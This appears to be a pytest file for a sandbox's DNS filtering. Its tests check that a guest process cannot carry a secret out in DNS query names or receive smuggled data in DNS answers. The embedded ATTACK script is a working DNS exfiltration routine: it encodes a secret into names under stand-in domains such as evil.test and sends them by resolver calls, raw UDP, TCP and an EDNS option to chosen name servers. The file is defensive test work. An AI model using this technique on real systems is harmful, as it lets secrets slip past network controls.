"""A guest carries a secret out by the names that it asks for, and lets in what an attacker's name server answers: by every way that
programs resolve, by questions of its own making, by UDP and by TCP, and by a name server of its own choice."""

from __future__ import annotations

import sys

import dns.message
import dns.rdatatype
import dns.rrset
import pytest

import sandbox
from sandbox import Allow, Deny
from tests.escape.attack import box, every_wall, ordinary
from tests.test_internet_names import upstream
from tests.test_names_upstream import NameServer, Seen, server

__all__ = ["server", "upstream"]

SECRET, ZONE = "c2VjcmV0", "one.test 300 A 192.0.2.7"
ATTACK = """
import socket, struct, sys
secret, ways, servers = sys.argv[1], sys.argv[2], [("127.0.0.53", 53)] + [tuple(each.split("#")) for each in sys.argv[3:]]
names = [f"{secret}.evil.test", f"{secret}.one.test", f"x.{secret}.deep.open.test", secret, f"one.test.{secret}", f"{secret}.closed.open.test"]
for name in names if "library" in ways else ():
    for ask in (socket.gethostbyname_ex, lambda name: socket.getaddrinfo(name, 80), lambda name: socket.getnameinfo((name, 80), 0)):
        try: print("answer", ask(name))
        except OSError: pass
def question(name, kind, more=b"", opcode=0):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\\0"
    return struct.pack("!6H", 7, 0x100 | opcode << 11, 1, 0, 0, 1 if more else 0) + labels + struct.pack("!HH", kind, 1) + more
option = b"\\0" + struct.pack("!HHIH", 41, 4096, 0, 4 + len(secret)) + struct.pack("!HH", 65001, len(secret)) + secret.encode()
def by_udp(host, port, questions):
    with socket.socket(type=socket.SOCK_DGRAM) as plain:
        plain.settimeout(0.02 if host != "127.0.0.53" else 5)
        for each in questions:
            try: plain.sendto(each, (host, port)); plain.recv(4096)
            except OSError: pass
def by_tcp(host, port, questions):
    try:
        with socket.create_connection((host, port), 0.02 if host != "127.0.0.53" else 5) as stream:
            stream.sendall(b"".join(struct.pack("!H", len(each)) + each for each in questions))
            stream.shutdown(socket.SHUT_WR)
            while stream.recv(65536): pass
    except OSError: pass
for host, port in servers:
    for kind in (1, 10, 12, 16, 28, 255, 65280):
        for opcode in (0, 2, 4, 5):
            questions = [question(name, kind, opcode=opcode) for name in names] + [question("one.test", kind, option, opcode)]
            if "udp" in ways: by_udp(host, int(port), questions)
            if "tcp" in ways: by_tcp(host, int(port), questions)
"""


@ordinary
@every_wall
def test_nothing_is_carried_out(upstream: NameServer, walls: str) -> None:
    """What a rule allows is asked for, without what came with the question."""
    upstream.load(ZONE)
    rules = [Allow("one.test"), Deny("*.closed.open.test"), Allow("one.open.test")]
    host, port = upstream.address
    with box(walls, network=rules) as guest:
        done = guest.run([sys.executable, "-c", ATTACK, SECRET, "library,udp,tcp", f"{host}#{port}", "192.0.2.53#53"], text=True, timeout=110)
    assert done.returncode == 0 and "answer" not in done.stdout, done
    assert set(upstream.names) <= {"one.test"} and upstream.names, upstream.names
    assert not any(SECRET.lower() in seen.query.to_text().lower() for seen in upstream.seen)


@pytest.mark.parametrize("way", ["library", "udp", "tcp"])
def test_a_rule_for_every_name_carries_it(upstream: NameServer, way: str) -> None:
    """Without the guard that it names."""
    sandbox.run([sys.executable, "-c", ATTACK, SECRET, way], network=[Allow("*")], timeout=110)
    assert any(SECRET.lower() in name.lower() for name in upstream.names)


def test_an_answer_brings_nothing_in(upstream: NameServer) -> None:
    """Of an answer a guest is told addresses; what is beside them stays outside."""

    upstream.load(ZONE)

    def say(seen: Seen) -> dns.message.Message:
        answer = upstream.found(seen.query)
        text = dns.rrset.from_text(seen.query.question[0].name, 60, "IN", "TXT", f'"{SECRET}"')
        answer.answer.append(text)
        answer.additional.append(text)
        return answer

    upstream.say = say
    ask = """
import socket, struct, sys
for kind in (1, 28, 255):
    with socket.socket(type=socket.SOCK_DGRAM) as plain:
        plain.settimeout(20)
        plain.sendto(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\\3one\\4test\\0" + struct.pack("!HH", kind, 1), ("127.0.0.53", 53))
        sys.stdout.buffer.write(plain.recv(4096))
"""
    done = sandbox.run([sys.executable, "-c", ask], network=[Allow("one.test")], timeout=60)
    assert len(done.stdout) > 36 and SECRET.encode() not in done.stdout, done
    assert dns.rdatatype.A in {seen.query.question[0].rdtype for seen in upstream.seen}
